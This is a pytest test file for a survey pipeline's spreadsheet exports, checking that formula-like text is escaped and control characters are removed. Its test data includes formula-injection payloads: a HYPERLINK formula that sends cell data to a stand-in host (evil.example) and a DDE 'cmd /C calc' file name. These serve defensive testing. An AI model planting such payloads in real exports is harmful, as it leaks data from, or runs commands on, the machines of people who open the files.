"""Exports safe to open in Excel (issue 12): no text cell becomes a formula, in CSV or
.xlsx, whatever it starts with; characters Excel cannot hold (a vertical tab pasted from
Word) are removed from every export and where a person types them; numbers stay numbers."""
from __future__ import annotations

import csv
import dataclasses
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from forms.model import Option, Section
from pipeline.outputs import export
from pipeline.outputs.cells import clean_text, csv_safe_frame, guard_formula
from pipeline.outputs.tally import tally
from pipeline.outputs.tally_tables import index_path, write_tally
from pipeline.review import audit_frame, build_form_catalog, set_answer

try:
    from tests.test_store import FORM, put, reading, store  # noqa: F401 (store is a fixture)
except ImportError:  # tests/ itself on sys.path
    from test_store import FORM, put, reading, store  # noqa: F401

LINK = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'
DANGEROUS = (LINK, "+84 912 345 678", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1")
VT_TEXT = "Dòng một\x0bDòng hai\x01"


def _csv_rows(path: Path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


def _xlsx_cells(path: Path) -> list[openpyxl.cell.cell.Cell]:
    book = openpyxl.load_workbook(path)  # raises on a broken workbook
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_no_formula(path: Path) -> None:
    formulas = [c.value for c in _xlsx_cells(path) if c.data_type == "f"]
    assert formulas == []
    with zipfile.ZipFile(path) as z:
        xml = b"".join(z.read(n) for n in z.namelist() if n.startswith("xl/"))
    assert b"<f>" not in xml and b"\x0b" not in xml and b"&#11;" not in xml


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_text_cell_that_starts_like_a_formula_gets_an_apostrophe(text):
    assert guard_formula(text) == "'" + clean_text(text)
    assert guard_formula("Thủ tục nhanh = tốt") == "Thủ tục nhanh = tốt"


def test_control_characters_are_removed_and_breaks_kept_as_newlines():
    assert clean_text(VT_TEXT) == "Dòng một\nDòng hai"
    assert clean_text("a\x00b\x1fc\x0cd\te\nf\rg\r\nh") == "abc\nd\te\nf\ng\nh"


def test_numbers_stay_numbers_only_text_is_guarded():
    frame = pd.DataFrame({"serial": [-3, 7], "score": [-0.5, 1.0],
                          "text": pd.Series(["-3", "ok"], dtype="string"),
                          "note": ["=1+1", None]})
    safe = csv_safe_frame(frame)
    assert safe.serial.tolist() == [-3, 7] and safe.score.tolist() == [-0.5, 1.0]
    assert safe.text.tolist() == ["'-3", "ok"]
    assert safe.note.iloc[0] == "'=1+1" and pd.isna(safe.note.iloc[1])


def test_comments_export_csv_and_xlsx_hold_no_formula_and_no_control_character(store, tmp_path):
    for serial, text in enumerate((*DANGEROUS, VT_TEXT), start=101):
        put(store, 1, serial - 100, reading(serial, text=text))
    frame = export.comments_csv_frame(store)
    rows = _csv_rows(export.write_frame(frame, tmp_path / "c.csv"))
    texts = {int(r["serial"]): r["text"] for r in rows}
    for serial, text in enumerate(DANGEROUS, start=101):
        assert texts[serial] == "'" + clean_text(text)
    assert texts[101 + len(DANGEROUS)] == "Dòng một\nDòng hai"
    assert all(r["confidence"] == "91.0" for r in rows)  # numbers untouched
    xlsx = export.write_frame(frame, tmp_path / "c.xlsx")
    _assert_no_formula(xlsx)
    back = pd.read_excel(xlsx)
    assert back.text.tolist()[: len(DANGEROUS)] == [clean_text(t) for t in DANGEROUS]  # strings
    assert back.text.iloc[len(DANGEROUS)] == "Dòng một\nDòng hai"
    responses = export.write_frame(export.responses_csv_frame(store, FORM), tmp_path / "r.csv")
    assert {r["y_kien"] for r in _csv_rows(responses)} >= {"'" + LINK, "'-2+3"}
    _assert_no_formula(export.write_frame(export.responses_csv_frame(store, FORM), tmp_path / "r.xlsx"))


def test_a_reviewers_typed_text_and_name_are_cleaned_and_the_audit_exports_safely(store, tmp_path):
    put(store, 1, 1, reading(101, text="chữ"))
    catalog = build_form_catalog([FORM])
    set_answer(store.engine, catalog, 101, "y_kien", "=HYPERLINK(\"http://x\")\x0bhai",
               reviewer="@Hoa\x07")
    frame = audit_frame(store)
    assert frame.reviewer.iloc[0] == "@Hoa" and frame.value.iloc[0] == '=HYPERLINK("http://x")\nhai'
    rows = _csv_rows(export.write_frame(frame, tmp_path / "a.csv"))
    assert rows[0]["reviewer"] == "'@Hoa" and rows[0]["value"].startswith("'=HYPERLINK")
    assert rows[0]["decision"] == "1"  # an id stays a number
    _assert_no_formula(export.write_frame(frame, tmp_path / "a.xlsx"))
    comments = export.comments_csv_frame(store)
    assert comments.text.iloc[0] == '=HYPERLINK("http://x")\nhai'  # the person's text wins


def test_an_old_control_character_in_the_store_is_removed_in_the_audit(store, tmp_path):
    """A decision recorded before input was cleaned still exports."""
    import sqlalchemy as sa

    from pipeline.review import tables

    put(store, 1, 1, reading(101, text="chữ"))
    set_answer(store.engine, build_form_catalog([FORM]), 101, "y_kien", "x", reviewer="Hoa")
    with store.engine.begin() as conn:
        conn.execute(sa.update(tables.decisions).values(value="a\x0bb", reviewer="=Hoa\x02"))
    xlsx = export.write_frame(audit_frame(store), tmp_path / "a.xlsx")
    _assert_no_formula(xlsx)
    assert pd.read_excel(xlsx).reviewer.iloc[0] == "=Hoa"


def test_tally_files_guard_text_and_keep_counts_numbers(store, tmp_path):
    labels = ('=HYPERLINK("http://x")', "-Khác", "@SUM(A1)")
    q1 = dataclasses.replace(FORM.question("q1"), options=tuple(
        Option(str(i), label) for i, label in enumerate(labels, start=1)))
    evil = dataclasses.replace(FORM, sections=(Section("A", (q1, *[
        q for q in FORM.questions() if q.id != "q1"])),))
    for serial in (101, 102):
        put(store, 1, serial - 100, reading(serial, q1=("1",)))
    result = tally(evil, export.responses_frame(store, evil))
    written = write_tally(result, tmp_path / "t.csv")
    assert written == (tmp_path / "t.csv", index_path(tmp_path / "t.csv"))
    rows = [r for r in _csv_rows(tmp_path / "t.csv") if r["question"] == "q1"]
    by_option = {r["option"]: r for r in rows}
    assert by_option["1"]["label"] == "'" + labels[0] and by_option["2"]["label"] == "'-Khác"
    assert by_option["1"]["count"] == "2"
    write_tally(result, tmp_path / "t.xlsx")
    _assert_no_formula(tmp_path / "t.xlsx")


def test_pages_export_guards_a_file_name_that_starts_like_a_formula(store, tmp_path):
    import sqlalchemy as sa

    from pipeline.store import schema

    put(store, 1, 1, reading(101))
    with store.engine.begin() as conn:
        conn.execute(sa.update(schema.sources).where(schema.sources.c.id == 1)
                     .values(path="=cmd|' /C calc'!A0\x0b.pdf"))
    frame = export.pages_csv_frame(store)
    rows = _csv_rows(export.write_frame(frame, tmp_path / "p.csv"))
    assert rows[0]["source"] == "'=cmd|' /C calc'!A0\n.pdf" and rows[0]["page"] == "1"
    _assert_no_formula(export.write_frame(frame, tmp_path / "p.xlsx"))
